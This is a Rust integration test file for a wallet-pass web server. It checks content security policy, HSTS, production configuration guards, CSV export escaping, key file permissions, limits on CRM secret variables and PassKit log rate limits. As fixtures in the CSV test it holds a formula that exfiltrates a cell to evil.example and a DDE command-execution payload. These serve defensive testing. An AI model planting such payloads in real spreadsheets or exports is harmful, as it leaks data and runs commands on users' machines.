//! The web edge as an attacker or a careless deployment meets it: pages whose inline scripts a
//! browser would block or another site could frame, production started on development material,
//! spreadsheet formulas in an export, readable key files, a CRM connection naming the server's
//! own secrets, and a PassKit log endpoint that takes anything.

mod common;

use std::collections::HashMap;
use std::process::{Command, Stdio};
use std::time::{Duration, Instant};

use axum::body::Body;
use axum::http::{header, HeaderMap, Request, StatusCode};
use axum::Router;

struct App {
    router: Router,
    state: domain::state::AppState,
    token: String,
    t: common::TestStore,
    _dir: tempfile::TempDir,
}

async fn demo_app(extra: &[(&str, &str)]) -> App {
    let t = common::sqlite_store().await;
    let dir = tempfile::tempdir().unwrap();
    let (state, token) = common::demo_state_with(&t, dir.path(), extra).await;
    App {
        router: server::router(state.clone()),
        state,
        token,
        t,
        _dir: dir,
    }
}

/// The policy's directives: name → sources.
fn directives(headers: &HeaderMap) -> HashMap<String, Vec<String>> {
    let csp = headers
        .get(header::CONTENT_SECURITY_POLICY)
        .expect("an HTML answer carries a Content-Security-Policy")
        .to_str()
        .unwrap();
    csp.split(';')
        .filter_map(|d| {
            let mut words = d.split_whitespace();
            let name = words.next()?.to_ascii_lowercase();
            Some((name, words.map(str::to_owned).collect()))
        })
        .collect()
}

/// The sources that govern `kind` (`script-src`, `style-src-attr`, …), with CSP's fallbacks.
fn sources<'a>(d: &'a HashMap<String, Vec<String>>, chain: &[&str]) -> &'a [String] {
    chain
        .iter()
        .find_map(|name| d.get(*name))
        .map(Vec::as_slice)
        .unwrap_or(&[])
}

/// Every `<script …>` opening tag without `src` (an inline script), with its text.
fn inline_scripts(html: &str) -> Vec<(String, String)> {
    inline_elements(html, "script")
        .into_iter()
        .filter(|(open, _)| !open.contains(" src="))
        .collect()
}

/// Every `<{tag} …>` element's opening tag and text (for `script` and `style`, whose text is raw).
fn inline_elements(html: &str, tag: &str) -> Vec<(String, String)> {
    let mut found = Vec::new();
    let mut rest = html;
    while let Some(start) = rest.find(&format!("<{tag}")) {
        let after = &rest[start..];
        let open_end = after.find('>').expect("an opening tag closes");
        let open = &after[..=open_end];
        let body_end = after
            .find(&format!("</{tag}>"))
            .unwrap_or_else(|| panic!("a {tag} element ends"));
        let body = &after[open_end + 1..body_end];
        found.push((open.to_owned(), body.to_owned()));
        rest = &after[body_end..];
    }
    found
}

fn attribute(tag: &str, name: &str) -> Option<String> {
    let needle = format!(" {name}=\"");
    let at = tag.find(&needle)? + needle.len();
    Some(tag[at..].split('"').next()?.to_owned())
}

/// Whether the policy lets this inline script run (or this inline style apply): its nonce or
/// its hash is in `sources` (`script-src`, `style-src`), and nothing makes the browser ignore them.
fn allowed(sources: &[String], open: &str, body: &str) -> bool {
    use base64::Engine as _;
    if let Some(nonce) = attribute(open, "nonce") {
        if sources.contains(&format!("'nonce-{nonce}'")) {
            return true;
        }
    }
    let hash =
        base64::engine::general_purpose::STANDARD.encode(openssl::sha::sha256(body.as_bytes()));
    sources.contains(&format!("'sha256-{hash}'"))
}

/// A page the way a phone renders it: each inline script allowed, no inline handlers, the
/// islands' module and WebAssembly loadable, brand colours (style attributes) applied, and no
/// framing by another site.
fn assert_policy_lets_the_page_work(uri: &str, headers: &HeaderMap, html: &str) {
    let d = directives(headers);
    let script_src = sources(&d, &["script-src-elem", "script-src", "default-src"]);
    for needed in ["'self'", "'wasm-unsafe-eval'"] {
        assert!(
            script_src.iter().any(|s| s == needed),
            "{uri}: script-src has {needed}: {script_src:?}"
        );
    }
    assert!(
        !script_src
            .iter()
            .any(|s| s == "'unsafe-inline'" || s == "'unsafe-eval'"),
        "{uri}: no unsafe script sources: {script_src:?}"
    );
    assert_eq!(
        d.get("frame-ancestors").map(Vec::as_slice),
        Some(&["'none'".to_owned()][..]),
        "{uri}"
    );
    for (open, body) in inline_scripts(html) {
        assert!(
            allowed(script_src, &open, &body),
            "{uri}: the policy blocks the inline script {open}{}",
            &body[..body.len().min(80)]
        );
    }
    for handler in [
        " onclick=",
        " onload=",
        " onsubmit=",
        " onerror=",
        " oninput=",
    ] {
        assert!(
            !html.contains(handler),
            "{uri}: an inline handler ({handler}) would be blocked"
        );
    }
    let style_src = sources(&d, &["style-src-elem", "style-src", "default-src"]);
    assert!(
        !style_src.iter().any(|s| s == "'unsafe-inline'"),
        "{uri}: no unsafe style sources: {style_src:?}"
    );
    for (open, body) in inline_elements(html, "style") {
        assert!(
            allowed(style_src, &open, &body),
            "{uri}: the policy blocks the inline style {open}{}",
            &body[..body.len().min(80)]
        );
    }
    if html.contains(" style=\"") {
        let attr = sources(&d, &["style-src-attr", "style-src", "default-src"]);
        assert!(
            attr.iter().any(|s| s == "'unsafe-inline'")
                && !attr
                    .iter()
                    .any(|s| s.starts_with("'nonce-") || s.starts_with("'sha")),
            "{uri}: style attributes (brand colours) would be dropped: {attr:?}"
        );
    }
}

#[tokio::test]
async fn every_html_answer_carries_a_policy_its_inline_scripts_satisfy() {
    let a = demo_app(&[]).await;
    let phone = format!("/i/{}", a.token);
    let (status, headers, html) = common::send(&a.router, common::http::get(&phone, None))
        .await
        .parts();
    assert_eq!(status, StatusCode::OK);
    let scripts = inline_scripts(&html);
    assert!(
        scripts
            .iter()
            .any(|(open, _)| open.contains("type=\"module\"")),
        "the phone page carries the islands' inline loader: {html}"
    );
    assert_policy_lets_the_page_work(&phone, &headers, &html);
    let nonce = attribute(&scripts[0].0, "nonce").expect("the loader has a nonce");

    // A nonce is good for one answer only.
    let (_, again, html_again) = common::send(&a.router, common::http::get(&phone, None))
        .await
        .parts();
    let nonce_again = attribute(&inline_scripts(&html_again)[0].0, "nonce").unwrap();
    assert_ne!(nonce, nonce_again, "a fresh nonce for every answer");
    assert_policy_lets_the_page_work(&phone, &again, &html_again);

    // Every other HTML answer: the other Leptos pages, the app's "not found", the server's own
    // plain pages.
    for uri in [
        "/".to_owned(),
        "/admin/login".to_owned(),
        format!("/i/{}/sent?j=nothing-here", a.token),
        "/l/not-a-real-link".to_owned(),
        "/no/such/page".to_owned(),
    ] {
        let (_, headers, html) = common::send(&a.router, common::http::get(&uri, None))
            .await
            .parts();
        assert!(
            headers[header::CONTENT_TYPE]
                .to_str()
                .unwrap()
                .starts_with("text/html"),
            "{uri}"
        );
        assert_policy_lets_the_page_work(&uri, &headers, &html);
    }
    let (status, headers, html) = common::send(
        &a.router,
        Request::post("/admin/logout")
            .header(header::ORIGIN, "https://evil.example")
            .header(header::CONTENT_TYPE, "application/x-www-form-urlencoded")
            .body(Body::from("csrf=x"))
            .unwrap(),
    )
    .await
    .parts();
    assert_eq!(status, StatusCode::FORBIDDEN, "{html}");
    assert_policy_lets_the_page_work("the dashboard's refusal page", &headers, &html);

    // HSTS on an https public URL, on every answer.
    for uri in [phone.as_str(), "/healthz"] {
        let (_, headers, _) = common::send(&a.router, common::http::get(uri, None))
            .await
            .parts();
        assert_eq!(
            headers
                .get(header::STRICT_TRANSPORT_SECURITY)
                .map(|v| v.to_str().unwrap()),
            Some("max-age=31536000"),
            "{uri}"
        );
    }

    // Pages with a member's journey or the dashboard are never stored.
    for uri in [
        format!("/i/{}?j=some-journey", a.token),
        format!("/i/{}/sent?j=some-journey", a.token),
        format!("/l/{}", "a".repeat(43)),
        "/admin/login".to_owned(),
        "/admin".to_owned(),
    ] {
        let (_, headers, _) = common::send(&a.router, common::http::get(&uri, None))
            .await
            .parts();
        assert_eq!(
            headers
                .get(header::CACHE_CONTROL)
                .map(|v| v.to_str().unwrap()),
            Some("no-store"),
            "{uri}"
        );
    }
}

/// The `Link` header names the JS module and the WebAssembly the page's own `<link>`s preload,
/// with the same URLs and request mode, so the browser downloads each once.
fn assert_headers_preload_what_the_page_loads(uri: &str, headers: &HeaderMap, html: &str) {
    let link = headers
        .get(header::LINK)
        .unwrap_or_else(|| panic!("{uri}: a Link header"))
        .to_str()
        .unwrap();
    let href = |rel: &str| {
        let at = html
            .find(&format!("<link rel=\"{rel}\" href=\""))
            .unwrap_or_else(|| panic!("{uri}: the page has a {rel} link: {html}"));
        let tag = &html[at..at + html[at..].find('>').unwrap()];
        (attribute(tag, "href").unwrap(), tag.to_owned())
    };
    let (js, _) = href("modulepreload");
    let (wasm, tag) = href("preload");
    assert!(tag.contains(" crossorigin="), "{uri}: {tag}");
    assert!(
        link.contains(&format!("<{js}>; rel=modulepreload")),
        "{uri}: {link}"
    );
    assert!(
        link.contains(&format!(
            "<{wasm}>; rel=preload; as=fetch; type=\"application/wasm\"; crossorigin"
        )),
        "{uri}: {link}"
    );
}

/// The member pages paint without waiting for a stylesheet: it is in the page, under this
/// answer's nonce. The dashboard links it (and its own). Every page names its JS and WASM in a
/// `Link` header.
#[tokio::test]
async fn member_pages_carry_their_stylesheet_inline_under_the_policy() {
    let a = demo_app(&[]).await;
    let css = ":root{--brand:#1f4fd1}.card>h1{margin:0}a[href^=\"/\"]{color:red}";
    std::fs::create_dir_all(a._dir.path().join("pkg")).unwrap();
    std::fs::write(a._dir.path().join("pkg/elumo-pass.css"), css).unwrap();
    let link = "<link rel=\"stylesheet\" href=\"/pkg/elumo-pass.css\"";

    for uri in [
        format!("/i/{}", a.token),
        format!("/i/{}/sent?j=nothing-here", a.token),
        "/l/not-a-real-link".to_owned(),
        "/".to_owned(),
    ] {
        let (status, headers, html) = common::send(&a.router, common::http::get(&uri, None))
            .await
            .parts();
        assert!(
            status.is_success() || status.is_client_error(),
            "{uri}: {status}"
        );
        let styles = inline_elements(&html, "style");
        assert_eq!(styles.len(), 1, "{uri}: one inline stylesheet: {html}");
        assert_eq!(styles[0].1, css, "{uri}: the built stylesheet, unescaped");
        assert!(
            attribute(&styles[0].0, "nonce").is_some(),
            "{uri}: {}",
            styles[0].0
        );
        assert!(
            !html.contains(link),
            "{uri}: no stylesheet to fetch: {html}"
        );
        assert_policy_lets_the_page_work(&uri, &headers, &html);
        assert_headers_preload_what_the_page_loads(&uri, &headers, &html);
    }

    let (_, headers, html) = common::send(&a.router, common::http::get("/admin/login", None))
        .await
        .parts();
    assert!(
        html.contains(link),
        "the dashboard links the stylesheet: {html}"
    );
    assert!(html.contains("/admin.css"), "{html}");
    assert!(inline_elements(&html, "style").is_empty(), "{html}");
    assert_policy_lets_the_page_work("/admin/login", &headers, &html);
    assert_headers_preload_what_the_page_loads("/admin/login", &headers, &html);
}

#[tokio::test]
async fn no_hsts_over_plain_http() {
    let a = demo_app(&[("ELUMO_PUBLIC_URL", "http://127.0.0.1:3000")]).await;
    let (_, headers, html) = common::send(
        &a.router,
        common::http::get(&format!("/i/{}", a.token), None),
    )
    .await
    .parts();
    assert!(headers.get(header::STRICT_TRANSPORT_SECURITY).is_none());
    assert_policy_lets_the_page_work("the phone page over http", &headers, &html);
}

/// The production variables every test below starts from: a real SMS sender, so only the point
/// under test is missing.
const PRODUCTION_SMS: [(&str, &str); 4] = [
    ("ELUMO_ENV", "production"),
    ("ELUMO_SMS_PROVIDER", "twilio"),
    ("ELUMO_TWILIO_ACCOUNT_SID", "AC0000"),
    ("ELUMO_TWILIO_AUTH_TOKEN", "secret"),
];

fn production_config(extra: &[(&str, &str)]) -> Result<domain::config::Config, String> {
    let mut vars: HashMap<&str, &str> = PRODUCTION_SMS.into_iter().collect();
    vars.insert("ELUMO_TWILIO_FROM", "+15005550006");
    vars.extend(extra.iter().copied());
    domain::config::Config::from_lookup(|k| vars.get(k).map(|v| v.to_string()))
        .map_err(|e| e.to_string())
}

/// Runs `server serve` until it exits (or kills it after `limit`); (exited, code, stderr).
fn serve_briefly(envs: &[(&str, &str)], limit: Duration) -> (bool, Option<i32>, String) {
    let mut child = Command::new(env!("CARGO_BIN_EXE_server"))
        .arg("serve")
        .env_clear()
        .envs(envs.iter().copied())
        .stdout(Stdio::null())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    let started = Instant::now();
    let status = loop {
        if let Some(status) = child.try_wait().unwrap() {
            break Some(status);
        }
        if started.elapsed() > limit {
            child.kill().unwrap();
            child.wait().unwrap();
            break None;
        }
        std::thread::sleep(Duration::from_millis(100));
    };
    let mut err = String::new();
    use std::io::Read as _;
    child
        .stderr
        .take()
        .unwrap()
        .read_to_string(&mut err)
        .unwrap();
    (status.is_some(), status.and_then(|s| s.code()), err)
}

#[tokio::test]
async fn production_refuses_plain_http_and_development_signing_material() {
    let signing = [
        ("ELUMO_APPLE_PASS_TYPE_ID", "pass.com.example.access"),
        ("ELUMO_APPLE_TEAM_ID", "ABCDE12345"),
        ("ELUMO_APPLE_CERT", "/etc/elumo/pass.pem"),
        ("ELUMO_APPLE_KEY", "/etc/elumo/pass-key.pem"),
        ("ELUMO_APPLE_WWDR", "/etc/elumo/wwdr-g4.pem"),
        ("ELUMO_GOOGLE_ISSUER_ID", "3388000000099999999"),
        (
            "ELUMO_GOOGLE_SERVICE_ACCOUNT",
            "wallet@example.iam.gserviceaccount.com",
        ),
        ("ELUMO_GOOGLE_KEY", "/etc/elumo/google.pem"),
    ];
    let https = ("ELUMO_PUBLIC_URL", "https://pass.example.com");

    // Everything set: production starts (the files are read later, when the state is built).
    let mut all = signing.to_vec();
    all.push(https);
    production_config(&all).expect("a complete production configuration");

    // A public URL iOS would refuse as a webServiceURL.
    let mut http = signing.to_vec();
    http.push(("ELUMO_PUBLIC_URL", "http://pass.example.com"));
    let err = production_config(&http).unwrap_err();
    assert!(
        err.contains("ELUMO_PUBLIC_URL") && err.contains("https://"),
        "{err}"
    );

    // No signing material: today a development chain would be generated. Each missing
    // variable is named.
    let err = production_config(&[https]).unwrap_err();
    for name in [
        "ELUMO_APPLE_CERT",
        "ELUMO_APPLE_KEY",
        "ELUMO_APPLE_P12",
        "ELUMO_APPLE_WWDR",
        "ELUMO_APPLE_PASS_TYPE_ID",
        "ELUMO_APPLE_TEAM_ID",
        "ELUMO_GOOGLE_KEY",
        "ELUMO_GOOGLE_ISSUER_ID",
        "ELUMO_GOOGLE_SERVICE_ACCOUNT",
    ] {
        assert!(err.contains(name), "{name} in: {err}");
    }
    // Only Google missing: only Google is named.
    let mut apple_only: Vec<_> = signing[..5].to_vec();
    apple_only.push(https);
    let err = production_config(&apple_only).unwrap_err();
    assert!(
        err.contains("ELUMO_GOOGLE_KEY") && !err.contains("ELUMO_APPLE"),
        "{err}"
    );

    // The binary: it refuses to start, says why, and writes no development material.
    let dir = tempfile::tempdir().unwrap();
    let data = dir.path().to_string_lossy().to_string();
    let db = format!("sqlite://{}", dir.path().join("elumo.db").display());
    let mut envs: Vec<(&str, &str)> = PRODUCTION_SMS.to_vec();
    envs.extend([
        ("ELUMO_TWILIO_FROM", "+15005550006"),
        ("ELUMO_DATA_DIR", data.as_str()),
        ("DATABASE_URL", db.as_str()),
        ("ELUMO_LISTEN", "127.0.0.1:0"),
        ("ELUMO_SITE_ROOT", data.as_str()),
        https,
    ]);
    let (exited, code, err) = serve_briefly(&envs, Duration::from_secs(30));
    assert!(
        exited,
        "production started serving on development signing material: {err}"
    );
    assert_eq!(code, Some(2), "{err}");
    assert!(
        err.contains("ELUMO_APPLE_CERT") && err.contains("ELUMO_GOOGLE_KEY"),
        "{err}"
    );
    assert!(
        !dir.path().join("certs").exists(),
        "no development chain was generated"
    );
}

/// A signed-in dashboard browser for `email` (a session made in the store, as sign-in makes it).
async fn dashboard_cookie(a: &App, email: &str) -> String {
    let staff = a.state.store.staff_by_email(email).await.unwrap().unwrap();
    let secret = domain::tokens::Token::generate(32);
    a.state
        .store
        .insert_session(&secret.hash(), &staff, "csrf-token", "test")
        .await
        .unwrap();
    domain::staff::session_cookie(&a.state.config.http.public_url, secret.expose())
        .split(';')
        .next()
        .unwrap()
        .to_owned()
}

#[tokio::test]
async fn csv_export_neutralises_formulas_and_keeps_awkward_names_intact() {
    let a = demo_app(&[]).await;
    let operator = a
        .state
        .store
        .operator_by_slug(domain::demo::DEMO_OPERATOR_SLUG)
        .await
        .unwrap()
        .unwrap()
        .id;
    a.state
        .store
        .create_staff(
            operator,
            "export@a.example",
            &domain::staff::hash_password("a long enough password"),
            "admin",
        )
        .await
        .unwrap();
    // What a CRM may send as names, and a site named with leading spaces.
    let hyperlink = r#"=HYPERLINK("https://evil.example/?d="&A1,"Open")"#;
    common::sql(
        &a.t,
        &format!(
            "UPDATE members SET first_name = '{}', last_name = '' WHERE external_id = 'nw-1001'",
            hyperlink.replace('\'', "''")
        ),
    )
    .await;
    let awkward_first = "Hopper, \"Amazing\"";
    let awkward_last = "Grace\r\nthe second";
    common::sql(
        &a.t,
        &format!(
            "UPDATE members SET first_name = '{awkward_first}', last_name = '{awkward_last}' \
             WHERE external_id = 'nw-1002'"
        ),
    )
    .await;
    let dde = "  =cmd|' /C calc'!A0";
    common::sql(
        &a.t,
        &format!(
            "UPDATE sites SET name = '{}' WHERE name = 'Northwind Shoreditch'",
            dde.replace('\'', "''")
        ),
    )
    .await;
    common::enter_number(&a.router, &a.token, "07400123001").await;
    common::enter_number(&a.router, &a.token, "07400123002").await;

    let cookie = dashboard_cookie(&a, "export@a.example").await;
    let (status, headers, csv_text) = common::send(
        &a.router,
        Request::get("/admin/journeys.csv")
            .header(header::COOKIE, cookie)
            .body(Body::empty())
            .unwrap(),
    )
    .await
    .parts();
    assert_eq!(status, StatusCode::OK, "{csv_text}");
    assert_eq!(headers[header::CONTENT_TYPE], "text/csv; charset=utf-8");

    let mut reader = csv::Reader::from_reader(csv_text.as_bytes());
    let head = reader.headers().unwrap().clone();
    let col = |name: &str| head.iter().position(|h| h == name).unwrap();
    let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
    assert_eq!(rows.len(), 2, "{csv_text}");
    let members: Vec<&str> = rows.iter().map(|r| &r[col("member")]).collect();
    assert!(
        members.contains(&format!("'{hyperlink}").as_str()),
        "the formula is text: {members:?}"
    );
    assert!(
        members.contains(&format!("{awkward_first} {awkward_last}").as_str()),
        "commas, quotes and line breaks survive: {members:?}"
    );
    for r in &rows {
        assert_eq!(&r[col("site")], format!("'{dde}"), "{csv_text}");
        for cell in r.iter() {
            let risky = cell.starts_with(['\t', '\r'])
                || cell.trim_start().starts_with(['=', '+', '-', '@']);
            assert!(!risky, "a spreadsheet would run {cell:?}");
        }
    }
}

#[cfg(unix)]
#[tokio::test]
async fn key_files_the_server_writes_are_private() {
    use std::os::unix::fs::PermissionsExt as _;
    let dir = tempfile::tempdir().unwrap();
    let db = format!("sqlite://{}", dir.path().join("elumo.db").display());
    let config = common::config_with(
        dir.path(),
        dir.path(),
        &[("DATABASE_URL", &db), ("ELUMO_DEMO", "true")],
    );
    let (_state, demo) = server::build_state(config).await.unwrap();
    assert!(
        demo.is_some(),
        "the demo (and its admin password file) was set up"
    );

    let mut secrets = Vec::new();
    let mut stack = vec![dir.path().to_path_buf()];
    while let Some(d) = stack.pop() {
        for entry in std::fs::read_dir(&d).unwrap() {
            let path = entry.unwrap().path();
            if path.is_dir() {
                stack.push(path);
                continue;
            }
            let text = std::fs::read(&path).unwrap_or_default();
            let text = String::from_utf8_lossy(&text);
            if text.contains("PRIVATE KEY") || path.ends_with("demo-admin.txt") {
                let mode = std::fs::metadata(&path).unwrap().permissions().mode() & 0o777;
                secrets.push((
                    path.file_name().unwrap().to_string_lossy().into_owned(),
                    mode,
                ));
            }
        }
    }
    secrets.sort();
    let names: Vec<&str> = secrets.iter().map(|(n, _)| n.as_str()).collect();
    for expected in [
        "credential-signing-key.pem",
        "demo-admin.txt",
        "dev-google-service-account-key.pem",
        "dev-pass-key.pem",
    ] {
        assert!(names.contains(&expected), "{expected} in {names:?}");
    }
    for (name, mode) in &secrets {
        assert_eq!(*mode, 0o600, "{name} is {mode:o}");
    }
}

#[tokio::test]
async fn a_crm_connection_may_name_only_elumo_crm_variables() {
    const AWS_SECRET: &str = "aws-secret-7f3e9c21d84b56a0e1f2c3d4b5a69788";
    let dir = tempfile::tempdir().unwrap();
    let db = format!("sqlite://{}", dir.path().join("elumo.db").display());
    let store = domain::store::Store::connect(&db, 1).await.unwrap();
    domain::demo::seed(&store).await.unwrap();
    store.close().await;
    let connect = |var: &str| {
        let settings = dir.path().join("crm.json");
        std::fs::write(
            &settings,
            serde_json::json!({
                "base_url": "https://crm.example.test/api",
                "auth": {"type": "bearer", "token_env": var},
            })
            .to_string(),
        )
        .unwrap();
        let out = Command::new(env!("CARGO_BIN_EXE_server"))
            .args([
                "crm",
                "connect",
                "--operator",
                "northwind",
                "--kind",
                "rest",
                "--settings",
            ])
            .arg(&settings)
            .env_clear()
            .env("DATABASE_URL", &db)
            .env("ELUMO_DATA_DIR", dir.path())
            .env("ELUMO_PUBLIC_URL", "https://pass.example.test")
            // The server's own secrets are in its environment, as in production.
            .env("ELUMO_DATABASE_URL", &db)
            .env("AWS_SECRET", AWS_SECRET)
            .env("ELUMO_CRM_NORTHWIND_TOKEN", "crm-token")
            .output()
            .unwrap();
        (
            out.status.success(),
            String::from_utf8_lossy(&out.stderr).into_owned(),
        )
    };
    for var in [
        "ELUMO_DATABASE_URL",
        "AWS_SECRET",
        "ELUMO_CRMX",
        "elumo_crm_lower",
    ] {
        let (ok, err) = connect(var);
        assert!(!ok, "{var} was accepted");
        assert!(
            err.contains("ELUMO_CRM_") && err.contains(var),
            "a clear refusal for {var}: {err}"
        );
        // Long and distinctive, so any part of it that leaks shows.
        assert!(
            !err.contains(AWS_SECRET) && !err.contains(&AWS_SECRET[8..24]),
            "the refusal for {var} shows the secret: {err}"
        );
    }
    let store = domain::store::Store::connect(&db, 1).await.unwrap();
    let northwind = store.operator_by_slug("northwind").await.unwrap().unwrap();
    assert!(
        store.crm_connection(northwind.id).await.unwrap().is_none(),
        "nothing refused was stored"
    );
    store.close().await;

    let (ok, err) = connect("ELUMO_CRM_NORTHWIND_TOKEN");
    assert!(ok, "{err}");

    // A connection stored before the rule (or written to the database directly) is refused
    // when it is used, before the variable is read.
    let conn = domain::store::SqlCrmConnection {
        operator_id: 1,
        kind: "rest".into(),
        settings: serde_json::json!({
            "base_url": "https://crm.example.test/api",
            "auth": {"type": "basic", "username": "u", "password_env": "PATH"},
        })
        .to_string(),
        interval_secs: 900,
        webhook_secret: String::new(),
        full_requested_at: None,
    };
    let err = domain::crm::connector_for(&conn).err().unwrap();
    assert!(err.contains("ELUMO_CRM_") && err.contains("PATH"), "{err}");
}

fn log_post(from: &str, body: impl Into<Body>) -> Request<Body> {
    let mut req = Request::post("/passkit/v1/log")
        .header(header::CONTENT_TYPE, "application/json")
        .body(body.into())
        .unwrap();
    common::http::from(&mut req, &format!("{from}:50000"));
    req
}

#[tokio::test]
async fn the_passkit_log_is_bounded_in_size_and_rate() {
    let a = demo_app(&[]).await;
    let line = |n: usize| serde_json::json!({"logs": ["x".repeat(n)]}).to_string();

    // Too large: refused without reading it all, and said so.
    let (status, _, _) = common::send(&a.router, log_post("192.0.2.1", line(70 * 1024)))
        .await
        .parts();
    assert_eq!(status, StatusCode::PAYLOAD_TOO_LARGE);
    // Junk is a client error, never a 500.
    let (status, _, _) = common::send(&a.router, log_post("192.0.2.1", "not json"))
        .await
        .parts();
    assert_eq!(status, StatusCode::BAD_REQUEST);

    // One address may report a few times, then waits; another address is not affected.
    let mut limited = None;
    for i in 0..200 {
        let (status, headers, _) = common::send(&a.router, log_post("192.0.2.7", line(100)))
            .await
            .parts();
        if status == StatusCode::TOO_MANY_REQUESTS {
            limited = Some((i, headers));
            break;
        }
        assert_eq!(status, StatusCode::OK, "report {i}");
    }
    let (count, headers) = limited.expect("a flood of reports is cut off");
    assert!(
        count >= 10,
        "a device may report a few errors: cut off after {count}"
    );
    let wait: u64 = headers[header::RETRY_AFTER]
        .to_str()
        .unwrap()
        .parse()
        .unwrap();
    assert!(wait > 0 && wait <= 600, "Retry-After {wait}");
    let (status, _, _) = common::send(&a.router, log_post("192.0.2.8", line(100)))
        .await
        .parts();
    assert_eq!(status, StatusCode::OK);
}
